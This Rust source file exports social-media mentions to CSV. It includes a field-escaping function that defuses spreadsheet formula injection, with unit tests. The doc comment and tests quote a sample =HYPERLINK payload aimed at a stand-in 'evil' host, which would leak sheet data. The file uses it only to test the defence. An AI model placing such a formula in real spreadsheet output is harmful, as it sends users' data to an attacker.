//! CSV for spreadsheets: the export of all mentions (the weekly report's trend CSV is in `report`).

use crate::domain::mention::EventKind;
use crate::domain::transfer::ExportLine;
use chrono::{DateTime, Utc};

/// One CSV field, quoted when it contains a comma, quote, CR or LF, or starts or ends with a space
/// (RFC 4180: quotes inside are doubled). Every CSV Lyssna writes goes through it.
///
/// Scraped text goes into these files, and spreadsheets run a cell that starts with `=`, `+`, `-`,
/// `@`, a tab or a CR as a formula (`=HYPERLINK("http://evil/?"&A1)` leaks the sheet). Such a cell
/// gets a leading `'`, which spreadsheets show as text (OWASP's advice); a plain number such as
/// `-3` or `+0.5` cannot be a formula and is left as it is.
pub fn field(s: &str) -> String {
    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err();
    let s = if formula {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    };
    if s.contains([',', '"', '\r', '\n']) || s.starts_with(' ') || s.ends_with(' ') {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.into_owned()
    }
}

/// `export --format csv`: one row per mention for spreadsheets (events summarised: the first reply).
pub fn export_csv(lines: &[ExportLine]) -> Vec<String> {
    let mut out = vec![
        "id,source,url,title,author,published_at,found_at,brands,sentiment,sentiment_override,status,replied_at,body"
            .to_string(),
    ];
    let t = |d: Option<DateTime<Utc>>| {
        d.map(|d| d.to_rfc3339_opts(chrono::SecondsFormat::Secs, true))
            .unwrap_or_default()
    };
    for l in lines {
        let replied = l
            .events
            .iter()
            .find(|e| e.kind == EventKind::Status && e.to.as_deref() == Some("replied"))
            .map(|e| e.at);
        let fields = [
            l.id.clone().unwrap_or_default(),
            l.source.clone(),
            l.url.clone().unwrap_or_default(),
            l.title.clone().unwrap_or_default(),
            l.author.clone().unwrap_or_default(),
            t(l.published_at),
            t(Some(l.found_at)),
            l.brands.join(";"),
            l.sentiment.to_string(),
            l.sentiment_override
                .map(|o| o.to_string())
                .unwrap_or_default(),
            l.status.to_string(),
            t(replied),
            l.body.clone(),
        ];
        out.push(
            fields
                .iter()
                .map(|f| field(f))
                .collect::<Vec<_>>()
                .join(","),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::field;

    #[test]
    fn fields_are_quoted_when_needed_and_formulas_neutralised() {
        assert_eq!(field("plain"), "plain");
        assert_eq!(field("a,b"), "\"a,b\"");
        assert_eq!(field("say \"hej\""), "\"say \"\"hej\"\"\"");
        assert_eq!(field("two\nlines"), "\"two\nlines\"");
        assert_eq!(field(" padded"), "\" padded\"");
        assert_eq!(
            field("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""
        );
        for f in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "=1"] {
            assert!(field(f).trim_start_matches('"').starts_with('\''), "{f}");
        }
        assert_eq!(field("-3"), "-3");
        assert_eq!(field("+0.5"), "+0.5");
    }
}
